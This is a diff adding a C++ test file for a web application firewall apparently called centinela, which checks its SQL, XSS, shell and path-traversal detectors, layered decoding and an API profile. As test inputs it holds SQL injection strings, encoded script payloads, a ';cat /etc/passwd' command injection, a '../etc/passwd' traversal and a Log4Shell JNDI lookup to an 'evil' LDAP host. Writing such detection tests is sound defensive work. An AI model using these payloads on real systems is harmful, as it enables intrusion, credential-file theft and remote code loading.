@@ -1,0 +1,196 @@
+// What centinela adds to CRS, on a small rule set shaped like CRS's: the
+// native rules (waf.native), decoded views (waf.decode) and the api
+// profile's gating (waf.profile), each through an Inspection as the WAF
+// stage runs it.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <iterator>
+
+#include "fake_exchange.h"
+#include "seclang/parse.h"
+#include "waf/builtin_rules.h"
+#include "waf/inspection.h"
+#include "waf/program.h"
+
+namespace centinela::waf {
+namespace {
+
+// CRS's shape: scores in tx.anomaly_score_pl1, summed before the verdict; a
+// method policy; one rule of the SQL family, one of 921.
+constexpr const char* kRules = R"(
+SecAction "id:901001,phase:1,pass,nolog,setvar:tx.critical_anomaly_score=5,setvar:tx.anomaly_score_pl1=0,setvar:tx.inbound_anomaly_score_threshold=5"
+SecRule &TX:allowed_methods "@eq 0" "id:901160,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS'"
+SecRule REQUEST_METHOD "!@within %{tx.allowed_methods}" "id:911100,phase:1,pass,log,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS "@rx (?i)\bselect\b" "id:942999,phase:2,pass,log,t:none,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS "@rx (?i)\bselect\b" "id:942190,phase:2,pass,log,t:none,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS "@rx (?i)\b(?:get|post) /" "id:921110,phase:2,pass,log,t:none,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecAction "id:949001,phase:2,pass,nolog,setvar:'tx.anomaly_score=+%{tx.anomaly_score_pl1}'"
+)";
+
+std::shared_ptr<const RuleSet> rule_set() {
+  static const std::shared_ptr<const RuleSet> set = [] {
+    seclang::ParseResult all = builtin_rules();
+    seclang::ParseResult mine = seclang::parse_text(kRules, "profile_test.conf");
+    all.items.insert(all.items.end(), std::make_move_iterator(mine.items.begin()),
+                     std::make_move_iterator(mine.items.end()));
+    EXPECT_TRUE(mine.errors.empty());
+    auto compiled = compile_rules(all);
+    EXPECT_TRUE(compiled->report.errors.empty()) << compiled->report.errors.front();
+    return compiled;
+  }();
+  return set;
+}
+
+ProgramOptions crs() { return {}; }
+ProgramOptions api() {
+  ProgramOptions o;
+  o.profile = Profile::api;
+  o.native = kNativeSql | kNativeXss | kNativeShell | kNativePath;
+  o.decode.max_depth = 3;
+  return o;
+}
+
+struct Outcome {
+  std::vector<std::uint32_t> rules;
+  std::vector<std::uint16_t> decoded;  // by finding
+  std::int64_t score = 0;
+  bool fired(std::uint32_t id) const {
+    return std::find(rules.begin(), rules.end(), id) != rules.end();
+  }
+  std::uint16_t decoded_of(std::uint32_t id) const {
+    const auto at = std::find(rules.begin(), rules.end(), id);
+    return at == rules.end() ? 0 : decoded[static_cast<std::size_t>(at - rules.begin())];
+  }
+};
+
+Outcome inspect(const ProgramOptions& options, std::string_view method, std::string_view target,
+                std::string_view content_type = {}, std::string_view body = {}) {
+  std::vector<std::pair<std::string, std::string>> fields{{"Host", "api.example.com"}};
+  if (!content_type.empty()) fields.emplace_back("Content-Type", std::string(content_type));
+  if (!body.empty()) fields.emplace_back("Content-Length", std::to_string(body.size()));
+  testing::FakeRequest request(method, target, fields);
+  request.ctx.client_ip = "192.0.2.1";
+  Inspection inspection(make_program(rule_set(), options), WafMode::detect, request.arena);
+  inspection.head(request.ctx);
+  if (inspection.wants_body()) {
+    inspection.body(body, true);
+  } else {
+    inspection.no_body();
+  }
+  const Verdict verdict = inspection.verdict();
+  Outcome out;
+  out.score = verdict.score;
+  for (const Finding& f : *verdict.findings) {
+    out.rules.push_back(f.rule);
+    out.decoded.push_back(f.decoded);
+  }
+  return out;
+}
+
+TEST(NativeRules, OnlyTheEnabledTokenisersRun) {
+  ProgramOptions sql_only;
+  sql_only.native = kNativeSql;
+  const Outcome sql = inspect(sql_only, "GET", "/items?id=1%27%20OR%20%271%27%3D%271");
+  EXPECT_TRUE(sql.fired(9700100));
+  const Outcome xss = inspect(sql_only, "GET", "/items?q=%3Cscript%3Ealert(1)%3C/script%3E");
+  EXPECT_FALSE(xss.fired(9700200)) << "waf.native.xss is off";
+  EXPECT_TRUE(inspect(api(), "GET", "/items?q=%3Cscript%3Ealert(1)%3C/script%3E").fired(9700200));
+  EXPECT_TRUE(inspect(api(), "GET", "/items?f=;cat%20/etc/passwd").fired(9700300));
+  EXPECT_TRUE(inspect(api(), "GET", "/items?f=../../../../etc/passwd").fired(9700400));
+  EXPECT_TRUE(inspect(api(), "GET", "/items?x=%24%7Bjndi:ldap://evil/a%7D").fired(9700500));
+  EXPECT_EQ(inspect(crs(), "GET", "/items?id=1%27%20OR%20%271%27%3D%271").rules,
+            std::vector<std::uint32_t>{})
+      << "no native rule without waf.native";
+}
+
+TEST(DecodedViews, Base64WrappedInjectionInJsonIsFoundAndMarked) {
+  // base64 of "1' OR '1'='1' -- "
+  const Outcome out = inspect(api(), "POST", "/api/notes", "application/json",
+                              R"({"note":"MScgT1IgJzEnPScxJyAtLSA="})");
+  ASSERT_TRUE(out.fired(9700100));
+  EXPECT_NE(out.decoded_of(9700100), 0) << "the finding says a decoder revealed it";
+  EXPECT_GE(out.score, 5);
+  ProgramOptions no_decode = api();
+  no_decode.decode.max_depth = 0;
+  EXPECT_FALSE(inspect(no_decode, "POST", "/api/notes", "application/json",
+                       R"({"note":"MScgT1IgJzEnPScxJyAtLSA="})")
+                   .fired(9700100));
+  ProgramOptions no_base64 = api();
+  no_base64.decode.base64 = false;
+  EXPECT_FALSE(inspect(no_base64, "POST", "/api/notes", "application/json",
+                       R"({"note":"MScgT1IgJzEnPScxJyAtLSA="})")
+                   .fired(9700100));
+}
+
+TEST(DecodedViews, DoubleEncodingAndFullWidthAreSeenThrough) {
+  EXPECT_TRUE(
+      inspect(api(), "GET", "/q?s=%253Cscript%253Ealert(1)%253C%252Fscript%253E").fired(9700200));
+  // ＜ｓｃｒｉｐｔ＞ａｌｅｒｔ(1)＜/ｓｃｒｉｐｔ＞ in full-width forms.
+  EXPECT_TRUE(inspect(api(), "GET",
+                      "/q?s=%EF%BC%9C%EF%BD%93%EF%BD%83%EF%BD%92%EF%BD%89%EF%BD%90%EF%BD%94"
+                      "%EF%BC%9E%EF%BD%81%EF%BD%8C%EF%BD%85%EF%BD%92%EF%BD%94(1)%EF%BC%9C/"
+                      "%EF%BD%93%EF%BD%83%EF%BD%92%EF%BD%89%EF%BD%90%EF%BD%94%EF%BC%9E")
+                  .fired(9700200));
+}
+
+TEST(DecodedViews, PlainValuesGetNoViewsAndAViewDoesNotScoreTwice) {
+  ViewLimits limits;
+  limits.decoding.max_depth = 3;
+  testing::FakeRequest request("GET", "/q?a=hello&b=42&c=PHNjcmlwdD4=", {{"Host", "x"}});
+  RequestView view(request.arena, limits);
+  view.add_head(request.ctx);
+  const auto args = view.get(Collection::args);
+  ASSERT_EQ(args.size(), 4u) << "one view, of c only";
+  EXPECT_EQ(args[3].name, "c");
+  EXPECT_EQ(args[3].value, "<script>");
+  EXPECT_NE(args[3].decoded, 0);
+  for (std::size_t i = 0; i < 3; ++i) EXPECT_EQ(args[i].decoded, 0);
+  // "select" as written and in a view: 942999 matches the value, the view adds nothing.
+  ProgramOptions crs_decoding;
+  crs_decoding.decode.max_depth = 3;
+  const Outcome out = inspect(crs_decoding, "GET", "/q?s=select%2520x");
+  EXPECT_EQ(std::count(out.rules.begin(), out.rules.end(), 942999u), 1);
+  EXPECT_EQ(out.score, 10);  // 942999 and 942190, once each
+}
+
+TEST(ApiProfile, GatedRulesCountOnlyWhereTheTokeniserConfirms) {
+  // 942190 is gated (it blocks benign API traffic); 942999 stands for the
+  // rules that keep CRS's semantics.
+  const char* prose = "/search?q=how%20to%20select%20a%20drop-down%20menu";
+  EXPECT_TRUE(inspect(crs(), "GET", prose).fired(942190));
+  EXPECT_FALSE(inspect(api(), "GET", prose).fired(942190));
+  EXPECT_TRUE(inspect(api(), "GET", prose).fired(942999));
+  const char* attack = "/search?q=1%20union%20select%20password%20from%20users";
+  EXPECT_TRUE(inspect(api(), "GET", attack).fired(942190));
+}
+
+TEST(ApiProfile, MarkdownFencesAndImagesAreNotCode) {
+  const std::string post =
+      R"({"body":"Why is this slow?\n```sql\nSELECT * FROM users WHERE id = 1 OR 1=1;\n```\nThanks"})";
+  EXPECT_FALSE(inspect(api(), "POST", "/forum", "application/json", post).fired(9700100));
+  EXPECT_FALSE(inspect(api(), "POST", "/forum", "application/json", post).fired(942999));
+  EXPECT_TRUE(inspect(api(), "POST", "/forum", "application/json",
+                      R"({"body":"1 OR 1=1; DROP TABLE users--"})")
+                  .fired(9700100))
+      << "outside a fence the same text is read";
+}
+
+TEST(ApiProfile, RestMethodsAnd921110) {
+  EXPECT_TRUE(inspect(crs(), "PUT", "/items/1").fired(911100));
+  EXPECT_FALSE(inspect(api(), "PUT", "/items/1").fired(911100));
+  EXPECT_FALSE(inspect(api(), "DELETE", "/items/1").fired(911100));
+  EXPECT_TRUE(inspect(crs(), "GET", "/doc?text=send%20a%20get%20/items").fired(921110));
+  EXPECT_FALSE(inspect(api(), "GET", "/doc?text=send%20a%20get%20/items").fired(921110));
+}
+
+TEST(ApiProfile, UntypedBodyIsReadAsAForm) {
+  const char* body = "name=x&q=1%27%20OR%20%271%27%3D%271";
+  EXPECT_TRUE(inspect(api(), "POST", "/form", {}, body).fired(9700100));
+  ProgramOptions crs_native = crs();
+  crs_native.native = kNativeSql;
+  EXPECT_FALSE(inspect(crs_native, "POST", "/form", {}, body).fired(9700100));
+}
+
+}  // namespace
+}  // namespace centinela::waf
